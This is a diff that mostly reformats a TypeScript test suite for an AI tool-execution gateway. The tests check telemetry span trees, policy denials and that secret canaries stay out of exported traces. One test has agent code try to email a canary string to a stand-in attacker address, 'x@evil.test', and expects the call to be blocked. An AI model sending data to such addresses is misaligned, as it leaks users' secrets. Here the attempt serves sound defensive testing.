@@ -75,38 +75,59 @@ interface UpstreamSeen {
 }
 
 /** An in-process Streamable HTTP MCP server that keeps the headers and `_meta` of each tools/call. */
-async function startTraceRecorder(): Promise<{ url: string; seen: UpstreamSeen[]; close(): Promise<void> }> {
+async function startTraceRecorder(): Promise<{
+  url: string
+  seen: UpstreamSeen[]
+  close(): Promise<void>
+}> {
   const seen: UpstreamSeen[] = []
   const transports = new Map<string, StreamableHTTPServerTransport>()
   const build = () => {
     const server = new McpServer({ name: 'trace-recorder', version: '1.0.0' })
-    server.registerTool('meta', { description: 'The _meta of this call', inputSchema: { x: z.string().optional() } }, async (_args, extra) => ({
-      content: [{ type: 'text', text: JSON.stringify(extra._meta ?? null) }],
-      structuredContent: { meta: (extra._meta ?? null) as unknown },
-    }))
+    server.registerTool(
+      'meta',
+      { description: 'The _meta of this call', inputSchema: { x: z.string().optional() } },
+      async (_args, extra) => ({
+        content: [{ type: 'text', text: JSON.stringify(extra._meta ?? null) }],
+        structuredContent: { meta: (extra._meta ?? null) as unknown },
+      }),
+    )
     // Answers once two calls wait (or alone after 10 s, which the test then reports).
-    server.registerTool('barrier', { description: 'Wait for a second caller', inputSchema: { tag: z.string() } }, async () => {
-      const together = await new Promise<boolean>((resolve) => {
-        const timer = setTimeout(() => {
-          waiting.splice(waiting.indexOf(release), 1)
-          resolve(false)
-        }, 10_000)
-        const release = () => {
-          clearTimeout(timer)
-          resolve(true)
+    server.registerTool(
+      'barrier',
+      { description: 'Wait for a second caller', inputSchema: { tag: z.string() } },
+      async () => {
+        const together = await new Promise<boolean>((resolve) => {
+          const timer = setTimeout(() => {
+            waiting.splice(waiting.indexOf(release), 1)
+            resolve(false)
+          }, 10_000)
+          const release = () => {
+            clearTimeout(timer)
+            resolve(true)
+          }
+          waiting.push(release)
+          if (waiting.length >= 2) for (const r of waiting.splice(0)) r()
+        })
+        return {
+          content: [{ type: 'text', text: JSON.stringify({ together }) }],
+          structuredContent: { together },
         }
-        waiting.push(release)
-        if (waiting.length >= 2) for (const r of waiting.splice(0)) r()
-      })
-      return { content: [{ type: 'text', text: JSON.stringify({ together }) }], structuredContent: { together } }
-    })
+      },
+    )
     return server
   }
   const waiting: Array<() => void> = []
   const http: Server = createServer(async (req, res) => {
     const chunks: Buffer[] = []
     for await (const chunk of req) chunks.push(chunk as Buffer)
-    const body = chunks.length > 0 ? (JSON.parse(Buffer.concat(chunks).toString('utf8')) as { method?: string; params?: { _meta?: unknown } }) : undefined
+    const body =
+      chunks.length > 0
+        ? (JSON.parse(Buffer.concat(chunks).toString('utf8')) as {
+            method?: string
+            params?: { _meta?: unknown }
+          })
+        : undefined
     if (body?.method === 'tools/call') seen.push({ headers: req.headers, meta: body.params?._meta })
     const sessionId = req.headers['mcp-session-id']
     let transport = typeof sessionId === 'string' ? transports.get(sessionId) : undefined
@@ -144,7 +165,11 @@ let upstream: Awaited<ReturnType<typeof startTraceRecorder>>
 beforeAll(async () => {
   telemetry = await startTelemetry({ serviceName: 'sluice-spans', exporter: 'memory' })
   upstream = await startTraceRecorder()
-  rt = await testRuntime({ recording: true, policy: POLICY, config: { servers: { up: { url: upstream.url } } } })
+  rt = await testRuntime({
+    recording: true,
+    policy: POLICY,
+    config: { servers: { up: { url: upstream.url } } },
+  })
   await waitForTools(rt, ['rec', 'up'])
 })
 afterAll(async () => {
@@ -165,7 +190,14 @@ const parentOf = (s: ReadableSpan) => s.parentSpanContext?.spanId
 
 /** Everything a span carries that an exporter would send. */
 function exported(s: ReadableSpan): string {
-  return JSON.stringify({ name: s.name, attributes: s.attributes, events: s.events, status: s.status, links: s.links, resource: s.resource.attributes })
+  return JSON.stringify({
+    name: s.name,
+    attributes: s.attributes,
+    events: s.events,
+    status: s.status,
+    links: s.links,
+    resource: s.resource.attributes,
+  })
 }
 
 /** Asserts the four execute_tool children of `exec` with their attributes. */
@@ -184,12 +216,16 @@ function assertInnerCalls(spans: ReadableSpan[], exec: ReadableSpan): void {
     expect(child.attributes['sluice.execution.id']).toBe(executionId)
     expect(child.attributes['gen_ai.operation.name']).toBe('execute_tool')
     expect(child.attributes['sluice.server']).toBe(child.name.includes(' up.') ? 'up' : 'rec')
-    expect(child.attributes['gen_ai.tool.call.id']).toMatch(new RegExp(`^${String(executionId)}:\\d+$`))
+    expect(child.attributes['gen_ai.tool.call.id']).toMatch(
+      new RegExp(`^${String(executionId)}:\\d+$`),
+    )
     expect(child.attributes['sluice.tool.hash']).toMatch(/^sha256:[0-9a-f]{64}$/)
   }
   expect(new Set(children.map((c) => c.attributes['gen_ai.tool.call.id'])).size).toBe(4)
   const parallel = children.filter((s) => s.name === 'execute_tool up.barrier')
-  expect(parallel.map((s) => s.attributes['sluice.args.sha256']).sort()).toEqual([hashArgs(ARGS.barrierA), hashArgs(ARGS.barrierB)].sort())
+  expect(parallel.map((s) => s.attributes['sluice.args.sha256']).sort()).toEqual(
+    [hashArgs(ARGS.barrierA), hashArgs(ARGS.barrierB)].sort(),
+  )
   for (const span of parallel) {
     expect(Object.keys(span.attributes).sort()).toEqual([
       'gen_ai.operation.name',
@@ -204,13 +240,18 @@ function assertInnerCalls(spans: ReadableSpan[], exec: ReadableSpan): void {
       'sluice.server',
       'sluice.tool.hash',
     ])
-    expect(span.attributes).toMatchObject({ 'gen_ai.tool.name': 'up.barrier', 'sluice.policy.decision': 'allow', 'sluice.policy.rule_id': 'up-tools' })
+    expect(span.attributes).toMatchObject({
+      'gen_ai.tool.name': 'up.barrier',
+      'sluice.policy.decision': 'allow',
+      'sluice.policy.rule_id': 'up-tools',
+    })
     expect(span.status.code).toBe(0)
   }
   // The SDK stamps span starts with Date.now() (millisecond precision) and ends with the
   // high-resolution clock, so causal order is checked with a 1 ms allowance.
   const ns = (t: [number, number]) => BigInt(t[0]) * 1_000_000_000n + BigInt(t[1])
-  const after = (later: ReadableSpan, earlier: ReadableSpan) => ns(later.startTime) + 1_000_000n >= ns(earlier.endTime)
+  const after = (later: ReadableSpan, earlier: ReadableSpan) =>
+    ns(later.startTime) + 1_000_000n >= ns(earlier.endTime)
 
   const sum = children.find((s) => s.name === 'execute_tool rec.get-sum')!
   expect(sum.attributes).toMatchObject({
@@ -239,7 +280,8 @@ function assertInnerCalls(spans: ReadableSpan[], exec: ReadableSpan): void {
 function assertNoCanary(spans: ReadableSpan[]): void {
   for (const span of spans) {
     const text = exported(span)
-    for (const canary of CANARIES) expect(text, `${span.name} carries a canary`).not.toContain(canary)
+    for (const canary of CANARIES)
+      expect(text, `${span.name} carries a canary`).not.toContain(canary)
     // No argument value in clear either (the sum's operands are too common to search for).
     expect(text).not.toContain('mallory@evil.test')
   }
@@ -249,7 +291,10 @@ describe('the span tree of one execution', () => {
   it('is execute_code → 4 × execute_tool (parallel, sequential, denied) through the engine', async () => {
     const principal = rt.principal()
     const out = await rt.engine.execute(principal, SCRIPT, { inboundToken: CANARY_TOKEN })
-    expect(out).toMatchObject({ ok: true, result: { a: true, b: true, sum: 42, denied: 'TOOL_DENIED' } })
+    expect(out).toMatchObject({
+      ok: true,
+      result: { a: true, b: true, sum: 42, denied: 'TOOL_DENIED' },
+    })
     const spans = await finishedSpans()
     expect(spans).toHaveLength(5)
     const roots = spans.filter((s) => parentOf(s) === undefined)
@@ -270,13 +315,18 @@ describe('the span tree of one execution', () => {
   })
 
   it('marks a failed execution with error.type and keeps code text out', async () => {
-    const out = await rt.engine.execute(rt.principal(), `const s = "${CANARY_CODE}"; await tools.rec.send_email({ to: "x@evil.test", subject: s })`)
+    const out = await rt.engine.execute(
+      rt.principal(),
+      `const s = "${CANARY_CODE}"; await tools.rec.send_email({ to: "x@evil.test", subject: s })`,
+    )
     expect(out.error?.code).toBe('TOOL_DENIED')
     const spans = await finishedSpans()
     const exec = spans.find((s) => s.name === 'execute_code')!
     expect(exec.attributes['error.type']).toBe('TOOL_DENIED')
     expect(exec.status.code).toBe(2)
-    expect(spans.filter((s) => parentOf(s) === idOf(exec)).map((s) => s.name)).toEqual(['execute_tool rec.send_email'])
+    expect(spans.filter((s) => parentOf(s) === idOf(exec)).map((s) => s.name)).toEqual([
+      'execute_tool rec.send_email',
+    ])
     assertNoCanary(spans)
   })
 
@@ -286,14 +336,20 @@ describe('the span tree of one execution', () => {
     try {
       await client.connect(new StreamableHTTPClientTransport(new URL(gw.url)))
       const res = await client.callTool({ name: 'execute_code', arguments: { code: SCRIPT } })
-      expect(res.structuredContent).toMatchObject({ ok: true, result: { a: true, b: true, sum: 42, denied: 'TOOL_DENIED' } })
+      expect(res.structuredContent).toMatchObject({
+        ok: true,
+        result: { a: true, b: true, sum: 42, denied: 'TOOL_DENIED' },
+      })
       const spans = await finishedSpans()
       expect(spans).toHaveLength(6)
       const roots = spans.filter((s) => parentOf(s) === undefined)
       expect(roots.map((s) => s.name)).toEqual(['tools/call execute_code'])
       const server = roots[0]!
       expect(server.kind).toBe(1) // SERVER
-      expect(server.attributes).toEqual({ 'mcp.method.name': 'tools/call', 'gen_ai.tool.name': 'execute_code' })
+      expect(server.attributes).toEqual({
+        'mcp.method.name': 'tools/call',
+        'gen_ai.tool.name': 'execute_code',
+      })
       const execs = spans.filter((s) => parentOf(s) === idOf(server))
       expect(execs.map((s) => s.name)).toEqual(['execute_code'])
       expect(spans.every((s) => traceOf(s) === traceOf(server))).toBe(true)
@@ -323,7 +379,10 @@ describe('the span tree of one execution', () => {
         }),
       )
       upstream.seen.length = 0
-      const res = await client.callTool({ name: 'execute_code', arguments: { code: 'return await tools.up.meta({})' } })
+      const res = await client.callTool({
+        name: 'execute_code',
+        arguments: { code: 'return await tools.up.meta({})' },
+      })
       const out = res.structuredContent as unknown as Execution
       expect(out.ok).toBe(true)
       const spans = await finishedSpans()
